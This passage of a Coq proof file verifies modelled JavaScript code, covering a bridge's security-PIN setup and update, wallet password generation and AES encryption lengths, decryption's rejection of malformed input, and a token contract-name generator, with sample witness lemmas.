  rewrite (bool_decide_eq_false_2 (Bridge.block_timestamp e' ≤ 0)) in Hro by lia.
  rewrite Hro.
  cbn [require mbind andb negb].
  eexists. split; [reflexivity|].
  rewrite !BridgeMore.security_set_security, !decide_True by done.
  split; [reflexivity|].
  unfold Bridge._verifyPINReadOnly.
  rewrite !BridgeMore.security_set_security, !decide_True by done.
  cbn [Bridge.lockUntil Bridge.salt Bridge.pinHash Bridge.with_pinHash
       Bridge.with_failedAttempts Bridge.with_paidPenalties].
  rewrite Hl. rewrite bool_decide_eq_false_2 by lia. by apply bool_decide_eq_true_2.
Qed.

Lemma pin_setup_update_round_trip_witness :
  ∃ s1 s2,
    Bridge.setupSecurityPIN (hash:=sample_keccak) (Sample.bridge_env 1700000020) Sample.bob
      "4321" Sample.bridge_funded = Ok s1
    ∧ Bridge.updateSecurityPIN (hash:=sample_keccak) (Sample.bridge_env 1700000050) Sample.bob
        "4321" "8765" s1 = Ok s2
    ∧ Bridge._verifyPINReadOnly (hash:=sample_keccak) (Sample.bridge_env 1700000050) Sample.bob
        "8765" s2 = true.
Proof.
  destruct (pin_setup_update_round_trip (hash:=sample_keccak) (Sample.bridge_env 1700000020)
              (Sample.bridge_env 1700000050) Sample.bob "4321" "8765" Sample.bridge_funded
              ltac:(vm_compute; discriminate) ltac:(vm_compute; discriminate)
              ltac:(vm_compute; reflexivity)) as (s1 & H1 & _ & H2).
  assert (Hset : Bridge.pinHash (Bridge.security s1 Sample.bob) ≠ 0).
  { assert (Hs : Ok s1 = Bridge.setupSecurityPIN (hash:=sample_keccak)
                           (Sample.bridge_env 1700000020) Sample.bob "4321"
                           Sample.bridge_funded) by (symmetry; exact H1).
    vm_compute in Hs. injection Hs as ->. vm_compute. discriminate. }
  destruct (H2 Hset) as (s2 & H3 & _ & H4).
  exists s1, s2. split; [exact H1|]. split; [exact H3|exact H4].
Defined.

(** X25.  Whatever 32 bytes [crypto.randomBytes] draws, the password
    [generateRandomPassword] makes of them has 64 characters and decodes,
    in [encrypt], to those 32 bytes: [encrypt] does not throw with it.
    The record it returns holds the IV as 32 hex characters and a cipher
    text of whole blocks, one to sixteen bytes longer than the UTF-8 text
    of the data. *)
Theorem generated_password_is_a_key (bytes random_iv : list Z) (data : JSON.value) :
  length bytes = 32%nat → Forall is_byte bytes → AES.block random_iv →
  Forall is_code_unit (JSON.stringify data) →
  length (Wallets.generateRandomPassword bytes) = 64%nat
  ∧ Buffer.from_hex (Wallets.generateRandomPassword bytes) = bytes
  ∧ ∃ e, Wallets.encrypt random_iv data (Wallets.generateRandomPassword bytes) = Some e
      ∧ Wallets.iv e = Buffer.to_hex random_iv
      ∧ length (Wallets.iv e) = 32%nat
      ∧ length (Wallets.encryptedData e)
        = (32 * (length (Buffer.from_utf8_string (JSON.stringify data)) / 16 + 1))%nat.
Proof.
  intros Hl Hb Hiv Hcu. unfold Wallets.generateRandomPassword.
  split; [rewrite BufferFacts.length_to_hex; lia|].
  split; [by apply BufferFacts.from_hex_to_hex|].
  unfold Wallets.encrypt. rewrite BufferFacts.from_hex_to_hex by done.
  unfold crypto.createCipheriv.
  rewrite decide_True by reflexivity. rewrite decide_True by assumption.
  rewrite decide_True by apply Hiv. cbn [mbind option_bind].
  set (text := Buffer.from_utf8_string (JSON.stringify data)).
  assert (Htext : Forall is_byte text) by by apply BufferFacts.from_utf8_string_bytes.
  unfold crypto.cipher_update. cbn [crypto.pending crypto.key crypto.chain app].
  unfold crypto.block_size.
  destruct (CryptoFacts.decrypt_blocks_encrypt_blocks (length text / 16) bytes Hl Hb
              random_iv text [] Hiv) as (out & ch & He & Hlo & Hob & Hch & _).
  { pose proof (Nat.div_mod_eq (length text) 16). lia. }
  { assumption. }
  rewrite He. eexists. split; [reflexivity|].
  cbn [Wallets.iv Wallets.encryptedData].
  split; [reflexivity|].
  split; [rewrite BufferFacts.length_to_hex; destruct Hiv as [-> _]; reflexivity|].
  rewrite length_app, !BufferFacts.length_to_hex, Hlo.
  assert (Hfin : AES.block (crypto.cipher_final
                   (crypto.mkCipher bytes ch (drop (length text / 16 * 16) text)))).
  { unfold crypto.cipher_final. cbn [crypto.pending crypto.key crypto.chain].
    apply AESFacts.encrypt_block_block; [assumption..|].
    apply AESFacts.xor_bytes_block; [|assumption].
    apply CryptoFacts.pad_block; [|by apply Forall_drop].
    rewrite length_drop. pose proof (Nat.div_mod_eq (length text) 16).
    pose proof (Nat.mod_upper_bound (length text) 16). lia. }
  destruct Hfin as [-> _]. lia.
Qed.

Lemma generated_password_is_a_key_witness :
  ∃ e, Wallets.encrypt WalletSample.iv (Wallets.wallets_value WalletSample.wallets)
         WalletSample.password = Some e
    ∧ length (Wallets.encryptedData e) = 768%nat.
Proof.
  destruct (generated_password_is_a_key WalletSample.password_bytes WalletSample.iv
              (Wallets.wallets_value WalletSample.wallets)
              ltac:(vm_compute; reflexivity)
              ltac:(apply (bool_decide_unpack _); vm_compute; reflexivity)
              ltac:(apply (bool_decide_unpack _); vm_compute; reflexivity)
              ltac:(apply (bool_decide_unpack _); vm_compute; reflexivity))
    as (_ & _ & e & He & _ & _ & Hlen).
  exists e. split; [exact He|].
  etransitivity; [exact Hlen|]. vm_compute. reflexivity.
Defined.

(** X26.  Both [decrypt] functions throw when the password does not
    decode to 32 bytes, when the IV does not decode to 16 bytes, and when
    the cipher text decodes to no byte at all or to a number of bytes that
    is not a multiple of 16. *)
Theorem decrypt_refuses_malformed_input (encryptedData iv password : list Z) :
  length (Buffer.from_hex password) ≠ 32%nat
  ∨ length (Buffer.from_hex iv) ≠ 16%nat
  ∨ length (Buffer.from_hex encryptedData) = 0%nat
  ∨ (length (Buffer.from_hex encryptedData) mod 16 ≠ 0)%nat →
  Wallets.decrypt encryptedData iv password = None
  ∧ Scripts.decrypt encryptedData iv password = None.
Proof.
  intros H.
  assert (Hd : Wallets.decrypt encryptedData iv password = None).
  { unfold Wallets.decrypt, crypto.createDecipheriv, crypto.createCipheriv.
    rewrite decide_True by reflexivity. unfold crypto.block_size.
    destruct (decide (length (Buffer.from_hex password) = 32%nat)) as [Hk|Hk]; [|reflexivity].
    destruct (decide (length (Buffer.from_hex iv) = 16%nat)) as [Hi|Hi]; [|reflexivity].
    destruct H as [H|[H|H]]; [done..|].
    cbn [mbind option_bind]. unfold crypto.decipher_update.
    cbn [crypto.pending crypto.key crypto.chain app].
    destruct (crypto.decrypt_blocks _ _ _ _) as [out ch].
    unfold crypto.decipher_final. cbn [crypto.pending crypto.key crypto.chain].
    unfold crypto.block_size. rewrite decide_False; [reflexivity|].
    rewrite length_drop.
    set (n := length (Buffer.from_hex encryptedData)) in *.
    pose proof (Nat.div_mod_eq (n - 1) 16).
    pose proof (Nat.mod_upper_bound (n - 1) 16).
    intros Hp. destruct H as [H|H]; [lia|]. apply H.
    replace n with (((n - 1) / 16 + 1) * 16)%nat by lia.
    apply Nat.Div0.mod_mul. }
  split; [exact Hd|].
  unfold Scripts.decrypt. unfold Wallets.decrypt in Hd. by rewrite Hd.
Qed.

Lemma decrypt_refuses_malformed_input_witness :
  Wallets.decrypt (js "00112233") (Buffer.to_hex WalletSample.iv) WalletSample.password = None
  ∧ Scripts.decrypt (js "00112233") (Buffer.to_hex WalletSample.iv) WalletSample.password
    = None.
Proof.
  apply (decrypt_refuses_malformed_input (js "00112233") (Buffer.to_hex WalletSample.iv)
           WalletSample.password).
  right. right. right. vm_compute. discriminate.
Defined.

(** X27.  The contract name the generator derives from the token name
    holds letters and digits only, whatever the token name holds, and ends
    in "Token": it is never empty, and it is "Token" alone when the token
    name has no letter or digit.  A token name that starts with a digit
    gives a contract name that starts with that digit. *)
Theorem contractName_is_alphanumeric (tokenName : list Z) :
  Forall (λ c, Generator.is_alphanumeric c = true) (Generator.contractName tokenName)
  ∧ (∃ stem, Generator.contractName tokenName = stem ++ js "Token"
       ∧ (length stem ≤ length tokenName)%nat
       ∧ (Forall (λ c, Generator.is_alphanumeric c = false) tokenName → stem = []))
  ∧ (∀ c rest, tokenName = c :: rest → 48 ≤ c ≤ 57 →
       ∃ rest', Generator.contractName tokenName = c :: rest').
Proof.
  unfold Generator.contractName. split; [|split].
  - apply Forall_app. split.
    + apply Forall_forall. intros c Hc. apply list_elem_of_In, filter_In in Hc. apply Hc.
    + apply (bool_decide_unpack _). vm_compute. reflexivity.
  - exists (List.filter Generator.is_alphanumeric tokenName).
    split; [reflexivity|]. split; [apply List.filter_length_le|].
    induction 1 as [|c l Hc _ IH]; [reflexivity|]. simpl. by rewrite Hc.
  - intros c rest -> Hc. simpl.
    assert (Generator.is_alphanumeric c = true) as ->.
    { unfold Generator.is_alphanumeric.
      rewrite (bool_decide_eq_true_2 (48 ≤ c ≤ 57)) by done. apply orb_true_r. }
    eexists. reflexivity.
Qed.

Lemma contractName_is_alphanumeric_witness :
  ∃ rest, Generator.contractName (js "1 Inch-Coin!") = 49 :: rest.
Proof.
  destruct (contractName_is_alphanumeric (js "1 Inch-Coin!")) as (_ & _ & H).
  exact (H 49 (js " Inch-Coin!") ltac:(vm_compute; reflexivity) ltac:(lia)).
Defined.
